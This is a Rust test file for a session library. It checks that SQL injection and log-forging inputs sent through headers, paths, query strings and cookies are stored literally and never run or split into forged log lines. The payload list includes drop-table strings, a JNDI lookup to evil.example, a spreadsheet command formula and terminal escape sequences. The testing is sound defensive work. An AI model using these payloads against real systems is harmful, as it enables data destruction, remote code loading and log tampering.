//! Texts that are meant to become something else: SQL in the database, a line in the log.

use axum::{
    extract::{Path, Query},
    http::{Extensions, HeaderMap},
    routing::get,
};
use serde::Deserialize;
use sessile::{Error, ErrorKind, PageKey, Session, Sessions};

use super::encoded;
use crate::{
    log::Log,
    site::{Library, Site, routes},
    support::{Db, cases},
};

cases! { no_text_becomes_sql }

/// What a header, a user id and a reason may contain.
const TEXTS: &[&str] = &[
    "'; drop table sessions; drop table sessile.sessions; --",
    "' or '1'='1",
    "\" or 1=1 --",
    "\\'; delete from sessions; --",
    "$$; drop schema sessile cascade; $$",
    "ada'/*",
    "%27%20or%201=1",
    "x'27' or 1=1",
    "{\"user_id\":\"root\"}",
    "$1 ?1 :user_id @user_id",
    "%",
    "_",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "\u{202e}tluafed",
];

#[derive(Deserialize)]
struct After {
    #[serde(default)]
    after: String,
}

/// A site whose address, user id, reason and page key come from the client.
async fn serve(db: &Db) -> Site {
    let library = Library::over(db);
    let layer = library.layer().client_ip(|headers: &HeaderMap, _: &Extensions| {
        headers.get("x-forwarded-for")?.to_str().ok()?.parse().ok()
    });
    let revoke = async |sessions: Sessions, user: String, why: String| {
        let ended = sessions.revoke_user(user).reason(&why).actor(&why).await?.ended;
        Ok::<_, Error>(ended.to_string())
    };
    let page = async |sessions: Sessions, user: String, after: String| {
        let key = after.parse::<PageKey>()?;
        Ok::<_, Error>(sessions.of_user(user).after(key).await?.len().to_string())
    };
    let (of_revoke, of_page) = (library.sessions.clone(), library.sessions.clone());
    let app = routes()
        .route(
            "/revoke/{user}/{why}",
            get(move |Path((user, why)): Path<(String, String)>| {
                revoke(of_revoke.clone(), user, why)
            }),
        )
        .route(
            "/page/{user}",
            get(move |Path(user): Path<String>, Query(after): Query<After>| {
                page(of_page.clone(), user, after.after)
            }),
        )
        .route(
            "/key/{key}",
            get(async |session: Session, Path(key): Path<String>| session.insert(&key, &key)),
        );
    library.serve_as_is(app.layer(layer)).await
}

/// One request after the other with the text in each place. Returns the statuses.
async fn send_everywhere(site: &Site, text: &str) -> Vec<u16> {
    let lines = [
        format!("User-Agent: {text}").into_bytes(),
        format!("X-Forwarded-For: {text}").into_bytes(),
    ];
    let text = encoded(text);
    let mut statuses = Vec::new();
    for path in [
        format!("/log-in/{text}"),
        format!("/key/{text}"),
        format!("/revoke/{text}/{text}"),
        format!("/page/{text}?after={text}"),
    ] {
        statuses.push(site.get(&path, &lines).await.status);
    }
    let cookie = [lines[0].clone(), b"Cookie: __Host-id='; drop table sessions; --".to_vec()];
    statuses.push(site.get("/", &cookie).await.status);
    statuses
}

/// Agent, address, user id, key, reason, actor, page key, cookie: each arrives as it was sent, or not at all.
async fn no_text_becomes_sql(db: Db) {
    let site = serve(&db).await;
    let bystander = site.user("root").await;
    for text in TEXTS {
        db.delete_events().await;
        assert_eq!(send_everywhere(&site, text).await, [200, 200, 200, 400, 200], "{text}");
        // The reason and the actor are in the event of the end; the user id and the agent in both.
        let columns = "event || '|' || user_id || '|' || coalesce(user_agent, '') || '|' || coalesce(reason, '') || '|'
            || coalesce(actor, '') || '|' || coalesce(ip, 'no address')";
        let query = format!(
            "select {columns} from session_events where user_id is not null order by event, user_agent is null"
        );
        let postgres = query
            .replace("from session_events", "from sessile.session_events")
            .replace("(ip,", "(ip::text,");
        let events = db.texts(&postgres, &query).await;
        assert_eq!(
            events,
            [
                format!("logged_in|{text}|{text}||user|no address"),
                format!("revoked|{text}|{text}|{text}|{text}|no address"),
                format!("revoked|{text}||{text}|{text}|no address"),
            ],
            "one of the session, and one of the revocation of the user",
        );
        // The key is in the data of a guest, with its own text as the value.
        let data = db
            .texts(
                "select data::text from sessile.sessions where user_id is null",
                "select data from sessions where user_id is null",
            )
            .await;
        let is_there = |data: &String| {
            let data: serde_json::Map<_, _> = serde_json::from_str(data).unwrap();
            data.get(*text).is_some_and(|value| value == *text)
        };
        assert!(data.iter().any(is_there), "{text}: {data:?}");
        // Nobody else was revoked or listed.
        assert_eq!(site.get("/", &bystander.lines()).await.body, "root", "{text}");
        assert_eq!(site.sessions.count_of_user("root").await.unwrap(), 1, "{text}");
    }
    // A realm comes from the application's code. It is checked all the same.
    for text in TEXTS {
        let error = db.tapped(site.spy.hook()).realm(*text).build().unwrap_err();
        assert_eq!(error.kind(), ErrorKind::Configuration, "{text}");
    }
}

/// A line break ends a line of a log, and an escape sequence changes a terminal. Nothing that a client sends brings
/// either into the log.
#[tokio::test]
async fn no_text_becomes_a_line_of_the_log() {
    let log = Log::begin();
    let db = Db::sqlite().await;
    let site = serve(&db).await;
    let attacks = [
        "a\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
        "a\r\nERROR forged",
        "\u{1b}[2J\u{1b}]0;forged\u{7}",
        "\u{9b}31mforged",
        "a\u{2028}forged",
        "a\u{85}forged",
    ];
    for attack in attacks {
        // A user id may contain a line break. An agent cannot: it would be another header.
        let text = encoded(attack);
        for path in [
            format!("/log-in/{text}"),
            format!("/revoke/{text}/forged"),
            format!("/revoke/ada/{text}"),
            format!("/page/{text}?after={text}"),
            format!("/key/{text}"),
        ] {
            site.get(&path, &[]).await;
        }
        let lines = log.take();
        assert!(lines.contains("logged in") && lines.contains("sessions revoked"), "{attack:?}");
        for line in lines.lines() {
            let event: serde_json::Value = serde_json::from_str(line).unwrap();
            assert_ne!(event["message"], "forged", "{line}");
            assert_ne!(event["level"], "ERROR", "{line}");
            assert!(!line.contains(|c: char| c.is_ascii_control()), "{line}");
        }
    }
}

/// The same for the format that most applications write, as text for people.
#[tokio::test]
async fn no_text_becomes_a_line_of_a_log_in_plain_text() {
    use std::sync::{Arc, Mutex};

    use tracing::instrument::WithSubscriber;

    #[derive(Clone, Default)]
    struct Buffer(Arc<Mutex<Vec<u8>>>);
    impl std::io::Write for Buffer {
        fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
            self.0.lock().unwrap().extend_from_slice(bytes);
            Ok(bytes.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }

    let db = Db::sqlite().await;
    let sessions = db.sessions().await;
    let buffer = Buffer::default();
    let writer = buffer.clone();
    let _everything = Log::begin();
    let subscriber = tracing_subscriber::fmt()
        .with_ansi(false)
        .with_max_level(tracing::Level::INFO)
        .with_writer(move || writer.clone())
        .finish();
    let user = "a\nERROR sessile: forged \u{1b}[2J\u{9b}31m";
    async {
        crate::support::Browser::logged_in(&sessions, user).await;
        sessions.revoke_user(user).await.unwrap();
    }
    .with_subscriber(subscriber)
    .await;
    let text = String::from_utf8(buffer.0.lock().unwrap().clone()).unwrap();
    let own: Vec<_> = text.lines().filter(|line| line.contains(" sessile")).collect();
    assert!(own.len() >= 2 && text.contains("logged in"), "{text}");
    assert!(!text.lines().any(|line| line.starts_with("ERROR")), "{text}");
    assert!(!text.contains(['\u{1b}', '\u{9b}']), "{text:?}");
}
